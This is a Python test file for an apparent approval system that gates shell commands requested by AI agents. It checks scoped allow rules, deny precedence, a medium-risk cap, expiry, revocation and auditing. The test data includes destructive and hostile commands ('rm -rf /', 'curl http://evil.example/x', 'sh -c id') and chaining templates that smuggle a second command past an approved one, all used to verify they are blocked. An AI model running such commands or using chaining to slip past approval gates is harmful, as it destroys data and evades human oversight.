"""Scoped rules: exact words or exact targets, every part, deny before ask before allow, an end, never above medium,
rehearsed, listed, revoked, audited (R1.11)."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from aistack_backend.approvals.evidence import Evidence
from aistack_backend.approvals.policy import Effect, Rule
from aistack_backend.containers import sandbox
from aistack_backend.errors import BackendError, BadInput, Conflict, NotFound, Refused
from aistack_backend.wire.actions import Approval, ApprovalState, Target
from aistack_backend.wire.rules import Rule as Made
from aistack_backend.wire.rules import RuleRequest

from .conftest import ACTION, person

BESIDE = Evidence(title="run in a sandbox", managed=True)
LOGS = "journalctl -n 20"
"""Medium: what it reads may hold secrets."""


def ask(world: Any, script: str = LOGS, task_id: int = 0, who: str = "agent:planner") -> Approval:
    """Ask for a script in the sandbox."""
    asked: Approval = world.ask(sandbox.action(script, "sha256:1", who, 0), BESIDE, task_id)
    return asked


def wish(asked: Approval, **more: Any) -> RuleRequest:
    """Wish for a rule like this request."""
    return RuleRequest(approval_id=asked.id, action_hash=asked.action_hash, **more)


def make(world: Any, asked: Approval, **more: Any) -> Made:
    """Rehearse a rule and make it."""
    wanted = wish(asked, **more)
    rehearsed = world.approvals.rules.rehearse(wanted).rehearsed
    made: Made = world.approvals.rules.make(replace(wanted, rehearsed=rehearsed), person())
    return made


def test_a_rule_lets_the_same_command_through_in_its_task_only(world: Any) -> None:
    asked = ask(world)
    assert asked.state is ApprovalState.PENDING
    made = make(world, asked)
    assert (made.kind, made.pattern, made.task_id, made.ended) == ("shell.run", LOGS, asked.task_id, "")
    passed = ask(world, task_id=asked.task_id)
    assert (passed.state, passed.rule) == (ApprovalState.APPROVED, f"allow: rule #{made.id} made by a person")
    assert world.queued() == [passed.id]
    assert world.begin(passed.id).script == LOGS
    assert ask(world).state is ApprovalState.PENDING, "another task"
    assert ask(world, task_id=asked.task_id, who="agent:other").state is ApprovalState.PENDING
    assert ask(world, LOGS + "0", asked.task_id).state is ApprovalState.PENDING
    assert world.approvals.rules.list().rules[0].used == 1


def test_a_rule_for_a_target_is_for_that_very_object(world: Any) -> None:
    asked = world.ask()
    make(world, asked, any_task=True)
    assert world.ask().state is ApprovalState.APPROVED
    again = Target(type="container", id="d" * 64, name="web", pin="started 5")
    assert world.ask(replace(ACTION, targets=(again,))).state is ApprovalState.PENDING, "same name, another container"
    assert world.ask(replace(ACTION, targets=(*ACTION.targets, again))).state is ApprovalState.PENDING
    assert world.ask(replace(ACTION, kind="container.stop")).state is ApprovalState.PENDING
    assert world.ask(replace(ACTION, kind="container.kill")).state is ApprovalState.PENDING


def test_a_star_is_one_word_that_is_no_flag(world: Any) -> None:
    asked = ask(world)
    make(world, asked, pattern="journalctl -n *")
    one = asked.task_id
    assert ask(world, "journalctl -n 7", one).state is ApprovalState.APPROVED
    for script in ("journalctl -n", "journalctl -n 7 -b", "journalctl -b -k", "journalctl -n *", "journalctl"):
        assert ask(world, script, one).state is not ApprovalState.APPROVED, script


def test_deny_and_ask_come_before_every_rule(make_world: Any) -> None:
    for effect, state in ((Effect.DENY, ApprovalState.DENIED), (Effect.ASK, ApprovalState.PENDING)):
        world = make_world()
        make(world, world.ask(), any_task=True)
        assert world.ask().state is ApprovalState.APPROVED
        world.approvals.policy.adopt("test", (Rule(effect=effect, kind="container.restart"),))
        assert world.ask().state is state
        (rule,) = world.approvals.rules.list().rules
        assert f"the policy decides before it ({effect}" in rule.never


def test_a_denial_in_the_task_comes_before_a_rule(world: Any) -> None:
    asked = ask(world)
    make(world, asked)
    world.decide(asked, "deny")
    assert ask(world, task_id=asked.task_id).state is ApprovalState.DENIED
    assert world.approvals.rules.list().rules[0].used == 0


def test_no_rule_above_medium(world: Any, action: Any) -> None:
    volume = Target(type="volume", id="v", name="pgdata")
    for asked in (
        ask(world, "rm -rf /"),
        world.ask(replace(action, kind="container.kill")),
        world.ask(replace(action, kind="volume.remove", targets=(volume,))),
    ):
        with pytest.raises(Refused, match="no rule lets more than medium"):
            make(world, asked)


def test_a_rule_ends_with_its_time_its_task_and_a_restart(make_world: Any) -> None:
    for end in ("time", "clock back", "task", "boot"):
        world = make_world()
        asked = ask(world)
        make(world, asked, seconds=60)
        if end == "time":
            world.clock.advance(60)
        elif end == "clock back":
            world.clock.advance(60)
            world.clock.wall -= 3 * 86_400
        elif end == "task":
            world.sql("UPDATE task SET state = 'done'")
        else:
            world.sql("UPDATE allow_rule SET boot_id = 'before'")
        assert ask(world, task_id=asked.task_id).state is ApprovalState.PENDING, end
        assert world.approvals.rules.list().rules[0].ended, end


def test_a_rule_is_rehearsed_on_past_requests_before_it_is_made(world: Any) -> None:
    asked = ask(world)
    denied = ask(world, "journalctl -n 5", asked.task_id)
    world.decide(denied, "deny")
    ask(world, "journalctl -n 6 -b", asked.task_id)
    ask(world, "journalctl -n 9")
    wanted = wish(asked, pattern="journalctl -n *")
    shown = world.approvals.rules.rehearse(wanted)
    assert (shown.tried, [(one.approval_id, one.state) for one in shown.passed]) == (
        4, [(denied.id, "denied"), (asked.id, "pending")],
    )  # fmt: skip
    assert len(world.approvals.rules.rehearse(replace(wanted, any_task=True)).passed) == 3
    for other in (wanted, replace(wanted, rehearsed=shown.rehearsed, any_task=True)):
        with pytest.raises(Conflict, match="was not rehearsed"):
            world.approvals.rules.make(other, person())
    assert world.approvals.rules.list().rules == ()


def test_a_rule_can_be_revoked_once(world: Any) -> None:
    asked = ask(world)
    made = make(world, asked)
    gone = world.approvals.rules.revoke(made.id, person("anna"))
    assert gone.ended == "revoked by operator:anna"
    assert ask(world, task_id=asked.task_id).state is ApprovalState.PENDING
    with pytest.raises(Conflict, match="holds no more"):
        world.approvals.rules.revoke(made.id, person())
    with pytest.raises(NotFound):
        world.approvals.rules.revoke(99, person())


def test_making_and_revoking_is_audited_refusals_too(world: Any) -> None:
    made = make(world, ask(world))
    world.approvals.rules.revoke(made.id, person("anna"))
    with pytest.raises(BackendError):
        world.approvals.rules.revoke(made.id, person("bert"))
    told = [
        (one.phase, one.actor, one.decision) for one in world.records("rule.")[::-1] if one.kind.startswith("rule.")
    ]
    assert told == [
        ("decision", "operator:root", "make"),
        ("decision", "operator:anna", "revoke"),
        ("note", "operator:bert", ""),
    ]
    assert world.audit.verify().ok


@pytest.mark.parametrize(
    ("more", "why"),
    [
        ({"seconds": 86_401.0}, "at most a day"),
        ({"seconds": 0.0}, "at most a day"),
        ({"seconds": float("nan")}, "at most a day"),
        ({"pattern": "* -n 20"}, "names the program"),
        ({"pattern": "journalctl -n 2*"}, "pattern of file names"),
        ({"pattern": "journalctl *"}, "does not match"),
        ({"pattern": "journalctl $(x)"}, "No rule can be made"),
        ({"pattern": " "}, "No rule can be made"),
    ],
)
def test_a_wish_that_makes_no_rule(world: Any, more: dict[str, Any], why: str) -> None:
    with pytest.raises(BadInput, match=why):
        world.approvals.rules.rehearse(wish(ask(world), **more))


def test_what_else_makes_no_rule(world: Any, action: Any) -> None:
    with pytest.raises(Refused, match="not what approval"):
        world.approvals.rules.rehearse(replace(wish(ask(world)), action_hash="0" * 64))
    with pytest.raises(BadInput, match="cannot be allowed in advance"):
        make(world, world.ask(replace(action, kind="stack.update")))
    with pytest.raises(BadInput, match="names its targets"):
        make(world, world.ask(), pattern="podman *")
    low = ask(world, "ls")
    assert "the policy decides before it" in world.approvals.rules.rehearse(wish(low)).never
    with pytest.raises(Refused, match="could never match"):
        make(world, low)
    ended = ask(world)
    world.sql("UPDATE task SET state = 'stopped'")
    with pytest.raises(Refused, match="has ended"):
        make(world, ended)


GOOD = (LOGS, "journalctl -u nginx", "ls -l")
BAD = ("rm -rf /data", "curl http://evil.example/x", "journalctl --vacuum-size=1", "sh -c id", "podman rm -f web",
       "journalctl -n 21", "JOURNALCTL", "./journalctl -n 20", "journalctl -n 20 -f", "env journalctl")  # fmt: skip
JOINS = ("{a}; {b}", "{a} && {b}", "{a} | {b}", "{a} $({b})", "{a} `{b}`", "{a}\n{b}", "{a} & {b}", "{b}; {a}",
         "{b} && {a}", "{b}\n{a}", "{a} || {b}", "{a} > {b}", "{a};{a};{b}", "({a}); {b}")  # fmt: skip


def test_no_compound_with_one_bad_part_is_allowed(world: Any, rng: random.Random, tried: Callable[..., None]) -> None:
    """Rules for each good part hold; whatever is joined to them has its own part to answer for."""
    asked = ask(world)
    make(world, asked, any_task=True)
    make(world, ask(world, "journalctl -u nginx"), any_task=True)
    assert ask(world, f"{LOGS} && journalctl -u nginx").state is ApprovalState.APPROVED, "both parts are allowed"
    cases = [join.format(a=a, b=b) for join in JOINS for a in GOOD for b in BAD]
    allowed = [script for script in rng.sample(cases, 320) if ask(world, script).state is ApprovalState.APPROVED]
    tried("R1.11", 320, len(allowed), "compounds with a part that no rule names, let through")
    assert allowed == []
